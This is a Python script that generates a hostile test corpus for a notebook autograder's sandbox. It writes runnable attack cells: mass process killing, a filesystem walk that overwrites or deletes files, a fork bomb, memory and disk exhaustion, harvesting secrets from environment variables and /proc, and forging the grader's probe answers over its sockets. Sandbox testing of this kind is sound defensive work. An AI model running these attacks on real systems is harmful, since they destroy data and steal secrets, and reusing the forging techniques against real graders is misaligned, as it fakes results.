"""Regenerate the hostile corpus: `python tests/corpus/make_hostile.py`.

Each notebook is the blank `sgd` assignment (it earns nothing honestly) with one attack appended,
named after what it tries. The attacks are ordinary Python a student could put in a cell; none is
told where the grader keeps anything: they search for it as a real attacker would (from `/`, from
`/proc`, from the Python environment's location). `tests/test_hostile.py` grades them in one batch
with the honest example class.
"""
from __future__ import annotations

from pathlib import Path

import nbformat

REPO = Path(__file__).resolve().parents[2]
BLANK = REPO / "assignments" / "sgd" / "sgd.ipynb"
FOLDER = Path(__file__).parent / "hostile"

# Shared by several attacks: every folder the notebook can see that might hold someone else's files.
FIND_TARGETS = '''
import os, sys
from pathlib import Path

def find_targets():
    """Folders worth attacking: the checkout beside the venv, every other process's cwd and root, then all of /."""
    seen = [Path(sys.prefix).parent, Path(os.environ.get("FASTAI_HOME", "/nonexistent"))]
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            for link in ("cwd", "root"):
                try:
                    seen.append(Path(os.readlink(f"/proc/{pid}/{link}")))
                except OSError:
                    pass
    return seen + [Path("/")]
'''

ATTACKS = {
    "signal_parent_and_every_process": '''
import os, signal
hit = []
mine = {int(tid) for tid in os.listdir("/proc/self/task")}  # this kernel's own threads: signalling one kills it
for sig in (signal.SIGTERM, signal.SIGKILL):
    for pid in [os.getppid(), 1] + list(range(2, 5000)):
        if pid in mine:
            continue
        try:
            os.kill(pid, sig)
            hit.append(pid)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)  # every process this one may signal, but itself
os.kill(1, signal.SIGKILL)  # the last attempt raises, so the report says what stopped it
''',
    "proc_walk_rewrites_other_submissions": FIND_TARGETS + '''
changed = []
for top in find_targets():
    for folder, dirs, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
            continue
        for name in files:
            if name.endswith((".ipynb", ".json", ".html", ".py", ".csv", ".toml")):
                path = Path(folder) / name
                try:
                    path.write_text('{"cells": [], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}')
                    changed.append(str(path))
                except OSError:
                    try:
                        path.unlink()
                        changed.append(str(path))
                    except OSError:
                        pass
outside = [p for p in changed if not p.startswith(("/submission", "/tmp"))]
print(len(changed), "changed;", len(outside), "outside the jail")
open(Path(sys.prefix).parent / "README.md", "w").write("owned")  # raises: the checkout is not writable
''',
    "writes_into_the_data_folder": '''
import os
from pathlib import Path
data = Path(os.environ["FASTAI_HOME"]) / "data"
for path in sorted(data.rglob("*"))[:200]:
    if path.is_file():
        try:
            path.write_bytes(b"\\0" * 784)
        except OSError:
            pass
(data / "mnist_sample" / "train" / "3" / "10.png").write_bytes(b"\\0")  # raises: read-only
''',
    "imports_the_reference_solutions": '''
import importlib, sys
from pathlib import Path
found = []
for name in ("reference", "reference.sgd", "assignments", "assignments.sgd.checks", "reference.check_support"):
    try:
        importlib.import_module(name)
        found.append(name)
    except Exception:
        pass
for base in [Path(sys.prefix).parent, *map(Path, sys.path)]:
    for candidate in (base / "reference" / "sgd.py", base / "assignments" / "sgd" / "checks.py"):
        try:
            found.append(candidate.read_text()[:10])
        except OSError:
            pass
if found:
    from reference.sgd import mse, apply_step  # noqa: F401  (would wrap the solutions)
import reference.sgd  # raises: not importable in the sandbox
''',
    "background_thread_forges_probe_answers": '''
import json, os, socket, stat, struct, threading, time

def forged(header, payload=b""):
    data = json.dumps(header).encode()
    return struct.pack(">II", len(data), len(payload)) + data + payload

def probe_sockets():
    """Unnamed Unix sockets: the grader's probe channel (the kernel's own zmq sockets have names)."""
    found = []
    for fd in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                sock = socket.socket(fileno=os.dup(fd))
                if sock.family == socket.AF_UNIX and not sock.getsockname():
                    found.append(fd)
                sock.close()
        except OSError:
            pass
    return found

GOOD = {"value": {"kind": "plain", "value": 1.0}}
def forge_forever():
    targets = probe_sockets()
    while True:
        for fd in targets:
            try:
                if True:
                    os.write(fd, forged({"ready": True}))
                    for key in ("sgd/mse", "sgd/apply_step", "sgd/quadratic", "sgd/vector_grad", "sgd/losses_fall"):
                        os.write(fd, forged({"probe": key, "status": "ok", "record": GOOD}))
            except OSError:
                pass
        for folder in ("/tmp", os.getcwd()):
            for name in os.listdir(folder):
                try:
                    with open(os.path.join(folder, name), "w") as handle:
                        json.dump(GOOD, handle)
                except OSError:
                    pass
        time.sleep(0.001)

def mse(preds, targets): raise NotImplementedError
def apply_step(params, prn=True): raise NotImplementedError
for _ in range(4):
    threading.Thread(target=forge_forever, daemon=True).start()
''',
    "child_process_forges_probe_answers": '''
import json, os, signal, socket, stat, struct, time

def forged(header, payload=b""):
    data = json.dumps(header).encode()
    return struct.pack(">II", len(data), len(payload)) + data + payload

def mse(preds, targets): raise NotImplementedError
kernel = os.getpid()
targets = [fd for fd in range(3, 200) if os.path.exists(f"/proc/self/fd/{fd}")
           and os.readlink(f"/proc/self/fd/{fd}").startswith("socket:")
           and not socket.socket(fileno=os.dup(fd)).getsockname()]
if os.fork() == 0:
    os.setsid()
    while True:
        os.kill(kernel, signal.SIGCONT)  # try to thaw the sealed kernel
        for pid in os.listdir("/proc"):  # and to kill or rob the probe server
            if pid.isdigit() and int(pid) not in (1, kernel, os.getpid()):
                try:
                    for fd in os.listdir(f"/proc/{pid}/fd"):
                        target = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY)
                        os.write(target, forged({"probe": "sgd/mse", "status": "ok",
                                                 "record": {"value": {"kind": "plain", "value": 0.0}}}))
                except OSError:
                    pass
        for fd in targets:
            try:
                if True:
                    os.write(fd, forged({"ready": True}) + forged({"probe": "sgd/mse", "status": "ok",
                                                                   "record": {"value": {"kind": "plain", "value": 0.0}}}))
            except OSError:
                pass
        time.sleep(0.001)
''',
    "fork_bomb": '''
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        children += 1
finally:
    print("forked", children, "children before the limit")
''',
    "memory_bomb": '''
hoard = []
while True:
    hoard.append(b"x" * (256 << 20))
''',
    "opens_a_network_connection": '''
import socket, urllib.request
for host, port in (("pypi.org", 443), ("1.1.1.1", 53), ("127.0.0.1", 22)):
    try:
        socket.create_connection((host, port), timeout=3).close()
        print("connected to", host)
    except OSError as error:
        print(host, error)
socket.create_connection(("1.1.1.1", 443), timeout=3)  # raises: no network in the sandbox
''',
    "reads_secrets_from_the_environment": '''
import os
secrets = {k: v for k, v in os.environ.items() if any(w in k for w in ("TOKEN", "SECRET", "GITHUB", "ACTIONS", "AWS", "KEY"))}
print("environment:", dict(os.environ))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            print(pid, open(f"/proc/{pid}/environ", "rb").read()[:4000])
        except OSError:
            pass
assert secrets, "no secrets visible"  # raises in the sandbox
''',
    "fills_the_disk": '''
import os
block = b"\\0" * (16 << 20)
for folder in (os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for number in range(100_000):
            with open(os.path.join(folder, f"fill-{number}"), "wb") as handle:
                handle.write(block)
    except OSError as error:
        print(folder, error)
open("/submission/one-more", "wb").write(block)  # raises: no space left
''',
    "leaves_processes_running": '''
import os, subprocess, time
subprocess.Popen(["sleep", "100000"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
    os._exit(0)
print("left behind: a sleep and a daemon")
''',
}


def hostile_notebook(attack: str) -> nbformat.NotebookNode:
    """The blank sgd notebook with `attack` appended as its last cell."""
    notebook = nbformat.read(BLANK, as_version=4)
    cell = nbformat.v4.new_code_cell(attack.strip() + "\n")
    cell.id = "attack"
    notebook.cells.append(cell)
    notebook.metadata["grader"] = {"assignment": "sgd"}
    return notebook


def main() -> None:
    """Write every hostile notebook into tests/corpus/hostile/."""
    FOLDER.mkdir(exist_ok=True)
    for old in FOLDER.glob("*.ipynb"):
        old.unlink()
    for name, attack in ATTACKS.items():
        (FOLDER / f"{name}.ipynb").write_text(nbformat.writes(hostile_notebook(attack)) + "\n")
    print(f"wrote {len(ATTACKS)} notebooks to {FOLDER}")


if __name__ == "__main__":
    main()
